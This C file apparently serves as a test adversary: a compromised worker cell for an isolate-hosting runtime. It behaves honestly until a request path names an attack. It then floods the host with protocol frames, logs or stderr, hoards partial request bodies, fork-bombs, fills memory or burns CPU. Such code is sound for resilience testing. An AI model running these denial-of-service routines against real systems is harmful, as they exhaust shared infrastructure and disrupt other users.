/* A cell that native code has taken over: hijacked-cell.ts in C, for attacks that are to cost the attacker next to nothing. It starts isolates,
 * loads functions and answers requests as an honest cell does, until the path of a request names what is to be done. One thread reads the
 * control connection, and one for each lease speaks with the host. Needs no arguments. */
#define _GNU_SOURCE
#include <errno.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>

enum { OPEN = 1, REPLY = 2, DATA = 3, NOTE = 8 };
enum { SETTINGS = 0, START = 1, END = 2, READY = 3, ENDED = 4, PING = 7, PONG = 8 };
enum { LOAD = 0, FETCH = 1, WARM = 4 };
enum { FLAG_END = 1, FLAG_UTF8 = 2, DONE = 1, LOG = 0 };
enum { CONTROL = 3, HEADER = 9, KIB = 1024, MIB = 1024 * 1024, WRITE_BYTES = 256 * 1024, BUCKET = 1, NO_SERVICE = 200 };

static const uint32_t NOBODY = 0x7ffffffe;

static void die(const char *what) {
  perror(what);
  _exit(1);
}

/* Answers whether the connection goes on. */
static int send_all(int fd, const uint8_t *bytes, size_t length) {
  while (length > 0) {
    ssize_t written = write(fd, bytes, length);
    if (written < 0 && errno == EINTR) continue;
    if (written <= 0) return 0;
    bytes += written;
    length -= (size_t)written;
  }
  return 1;
}

static int receive_all(int fd, uint8_t *bytes, size_t length) {
  while (length > 0) {
    ssize_t got = read(fd, bytes, length);
    if (got < 0 && errno == EINTR) continue;
    if (got <= 0) return 0;
    bytes += got;
    length -= (size_t)got;
  }
  return 1;
}

static uint32_t number(const uint8_t *at) {
  uint32_t value;
  memcpy(&value, at, 4);
  return value;
}

static size_t header(uint8_t *at, uint8_t type, uint32_t id, uint32_t length) {
  memcpy(at, &length, 4);
  at[4] = type;
  memcpy(at + 5, &id, 4);
  return HEADER;
}

static size_t note(uint8_t *at, uint32_t id, uint8_t kind, const void *payload, uint32_t length) {
  header(at, NOTE, id, length + 1);
  at[HEADER] = kind;
  memcpy(at + HEADER + 1, payload, length);
  return HEADER + 1 + length;
}

static size_t message(uint8_t *at, uint8_t type, uint32_t id, const uint8_t *fixed, uint32_t count, const char *head) {
  uint32_t length = (uint32_t)strlen(head);
  header(at, type, id, count + 4 + length);
  memcpy(at + HEADER, fixed, count);
  memcpy(at + HEADER + count, &length, 4);
  memcpy(at + HEADER + count + 4, head, length);
  return HEADER + count + 4 + length;
}

static size_t open_call(uint8_t *at, uint32_t id, uint8_t service, int complete, uint32_t invocation, const char *rest) {
  char head[256];
  uint8_t fixed[2] = {service, (uint8_t)(FLAG_UTF8 | (complete ? FLAG_END : 0))};
  snprintf(head, sizeof head, "%u\n%s", invocation, rest);
  return message(at, OPEN, id, fixed, 2, head);
}

static int reply(int fd, uint32_t id, const char *head) {
  uint8_t frame[512], fixed[3] = {200, 0, FLAG_UTF8 | FLAG_END};
  return send_all(fd, frame, message(frame, REPLY, id, fixed, 3, head));
}

/* Reads whatever the host sends, so that it has no reason to wait. */
static void *swallow(void *given) {
  static uint8_t bytes[64 * KIB];
  int fd = (int)(intptr_t)given;
  while (read(fd, bytes, sizeof bytes) > 0) {
  }
  return NULL;
}

static void *burn(void *unused) {
  for (volatile uint64_t i = 0;; i++) {
  }
  return unused;
}

static void flood_notes(int fd) {
  uint8_t *bytes = malloc(WRITE_BYTES);
  size_t at = 0;
  while (at + HEADER + 1 <= WRITE_BYTES) at += note(bytes + at, NOBODY, 0, "", 0);
  while (send_all(fd, bytes, at)) {
  }
}

static void flood_opens(int fd, uint32_t invocation, int again) {
  uint8_t *bytes = malloc(WRITE_BYTES);
  uint32_t id = 1;
  for (;;) {
    size_t at = 0;
    if (again) id = 1;
    while (at + 512 <= WRITE_BYTES) at += open_call(bytes + at, id += 2, NO_SERVICE, 1, invocation, "x\nFILES\n{}");
    if (!send_all(fd, bytes, at)) return;
  }
}

static void flood_logs(int fd, uint32_t invocation) {
  uint8_t *bytes = malloc(WRITE_BYTES), line[1001];
  memset(line, 'x', sizeof line);
  line[0] = 1;
  size_t at = 0;
  while (at + 1024 <= WRITE_BYTES) at += note(bytes + at, invocation, LOG, line, sizeof line);
  while (send_all(fd, bytes, at)) {
  }
}

static void flood_stderr(void) {
  uint8_t *bytes = malloc(64 * KIB);
  memset(bytes, 'x', 64 * KIB);
  while (send_all(2, bytes, 64 * KIB)) {
  }
}

/* A large note and a small piece of a body behind it, in one write. */
static void hoard_partial(int fd, uint32_t invocation, uint32_t large) {
  uint32_t piece = 16 * KIB;
  uint8_t *bytes = calloc(1, HEADER + large + HEADER + piece), opened[512];
  char rest[64];
  for (uint32_t call = 0; call < 900; call++) {
    uint32_t id = 3 + 2 * call;
    snprintf(rest, sizeof rest, "put\nFILES\n{\"key\":\"key-%u\"}", call);
    if (!send_all(fd, opened, open_call(opened, id, BUCKET, 0, invocation, rest))) return;
    header(bytes, NOTE, NOBODY, large);
    header(bytes + HEADER + large, DATA, id, piece);
    for (int n = 0; n < 4; n++)
      if (!send_all(fd, bytes, HEADER + large + HEADER + piece)) return;
  }
}

static void fork_many(long count) {
  for (long n = 0; n < count; n++) {
    pid_t child = fork();
    if (child == 0)
      for (;;) sleep(1000);
    if (child < 0) perror("fork");
  }
}

static void fill_memfd(long mebibytes) {
  int fd = memfd_create("x", 0);
  uint8_t *piece = malloc(MIB);
  memset(piece, 7, MIB);
  if (fd < 0) perror("memfd_create");
  for (long n = 0; n < mebibytes; n++)
    if (write(fd, piece, MIB) != MIB) break;
}

/* `path` begins with what is to be done, and may have "?number" behind it. Answers whether it was known. */
static int attack(int fd, uint32_t invocation, const char *path) {
  const char *query = strchr(path, '?');
  long figure = query == NULL ? 0 : strtol(query + 1, NULL, 10);
  size_t length = query == NULL ? strlen(path) : (size_t)(query - path);
  pthread_t thread;
#define IS(text) (length == strlen(text) && memcmp(path, text, length) == 0)
  if (!IS("/flood/notes") && !IS("/flood/opens") && !IS("/flood/opens-again") && !IS("/flood/logs") && !IS("/flood/stderr") &&
      !IS("/hoard/partial") && !IS("/burn") && !IS("/fork") && !IS("/memfd"))
    return 0;
  pthread_create(&thread, NULL, swallow, (void *)(intptr_t)fd);
  if (IS("/flood/notes")) flood_notes(fd);
  else if (IS("/flood/opens")) flood_opens(fd, invocation, 0);
  else if (IS("/flood/opens-again")) flood_opens(fd, invocation, 1);
  else if (IS("/flood/logs")) flood_logs(fd, invocation);
  else if (IS("/flood/stderr")) flood_stderr();
  else if (IS("/hoard/partial")) hoard_partial(fd, invocation, (uint32_t)figure);
  else if (IS("/fork")) fork_many(figure);
  else if (IS("/memfd")) fill_memfd(figure);
  else if (IS("/burn")) {
    for (long n = 1; n < figure; n++) pthread_create(&thread, NULL, burn, NULL);
    burn(NULL);
  }
  pthread_join(thread, NULL);
  return 1;
}

/* The path of "GET\nhttps://host/path\n...", cut off in place. */
static char *path_of(char *head) {
  char *url = strchr(head, '\n');
  char *host = url == NULL ? NULL : strstr(url, "://");
  char *path = host == NULL ? NULL : strchr(host + 3, '/');
  if (path == NULL) return head;
  path[strcspn(path, "\n")] = 0;
  return path;
}

static void *isolate(void *given) {
  int fd = (int)(intptr_t)given;
  uint8_t head[HEADER], done[8] = {0}, frame[64];
  while (receive_all(fd, head, HEADER)) {
    uint32_t length = number(head), id = number(head + 5);
    uint8_t *payload = malloc(length + 1);
    if (payload == NULL || !receive_all(fd, payload, length)) break;
    if (head[4] == OPEN && length >= 6) {
      uint32_t text = number(payload + 2);
      char *words = (char *)payload + 6;
      if (text > length - 6) break;
      words[text] = 0;
      if (payload[0] == LOAD) reply(fd, id, "{\"kind\":\"loaded\",\"handlers\":[\"fetch\"],\"startupTimeMs\":1}");
      else if (payload[0] == WARM) reply(fd, id, "");
      else if (payload[0] == FETCH && !attack(fd, id, path_of(words))) {
        reply(fd, id, "OK");
        send_all(fd, frame, note(frame, id, DONE, done, sizeof done));
      }
    }
    free(payload);
  }
  return NULL;
}

int main(void) {
  uint8_t head[HEADER], frame[64];
  pthread_t thread;
  while (receive_all(CONTROL, head, HEADER)) {
    uint32_t length = number(head), lease = number(head + 5);
    uint8_t *payload = malloc(length + 1);
    if (payload == NULL || !receive_all(CONTROL, payload, length)) die("read");
    if (head[4] == NOTE && length >= 1) {
      if (payload[0] == SETTINGS) send_all(CONTROL, frame, note(frame, 0, READY, "", 0));
      else if (payload[0] == PING) send_all(CONTROL, frame, note(frame, 0, PONG, "", 0));
      else if (payload[0] == END) send_all(CONTROL, frame, note(frame, lease, ENDED, "closed\n", 7));
      else if (payload[0] == START && length >= 5) {
        int fd = (int)number(payload + 1);
        if (pthread_create(&thread, NULL, isolate, (void *)(intptr_t)fd) != 0) die("pthread_create");
      }
    }
    free(payload);
  }
  return 0;
}
